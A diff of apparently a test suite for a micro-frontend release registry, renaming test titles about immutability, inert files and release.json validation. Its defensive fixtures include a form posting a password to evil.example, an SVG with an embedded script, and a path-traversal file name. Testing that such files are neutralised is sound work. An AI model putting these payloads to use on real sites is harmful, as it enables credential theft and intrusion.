@@ -33,7 +33,7 @@ describeOnDatabases('publishing releases on $name', ({ open }) => {
       );
     });
 
-    it('is immutable', async () => {
+    it('cannot be changed', async () => {
       await registry.published('v1');
       const secondAnswer = await registry.publish(aRelease('cart_mfe', 'v1', {}, '/* something else */'));
       expect(secondAnswer).toMatchObject({ status: 409, code: 'release_exists' });
@@ -43,7 +43,7 @@ describeOnDatabases('publishing releases on $name', ({ open }) => {
     it.each([
       ['page.html', '<form action="https://evil.example"><input name="password"></form>'],
       ['picture.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
-    ])('runs, requests and sends nothing from %s', async (name, text) => {
+    ])('lets %s run, request and send nothing', async (name, text) => {
       const version = name.replace('.', '-');
       const good = aRelease('cart_mfe', version);
       const names = { ...(good.release['files'] as object), [name]: sri(text) };
@@ -134,7 +134,7 @@ describeOnDatabases('publishing releases on $name', ({ open }) => {
       expect((await registry.ask('GET', '/cart_mfe/history')).data.acts).toEqual([]);
     });
 
-    it('has another name, or is a page without its page assets', async () => {
+    it('has the name of another remote, or is a page without the list of page assets', async () => {
       expect(await registry.publish(good, STAFF, 'builder_mfe')).toMatchObject({
         status: 422,
         errors: [{ code: 'name_differs' }],
@@ -199,7 +199,7 @@ describeOnDatabases('publishing releases on $name', ({ open }) => {
       ['version', { version: 'v'.repeat(101) }],
       ['files', { files: { [entry]: sri('x'), '../../other/v1/a.js': sri('x') } }],
       ['files', { files: { [entry]: sri('x'), 'two words.js': sri('x') } }],
-    ])('names the invalid part of release.json: %s', async (part, changes) => {
+    ])('is reported with the invalid part of release.json: %s', async (part, changes) => {
       const answer = await registry.publish(aRelease('cart_mfe', 'v1', changes));
       expect(answer).toMatchObject({ status: 400, detail: expect.stringContaining(`/${part}`) });
     });
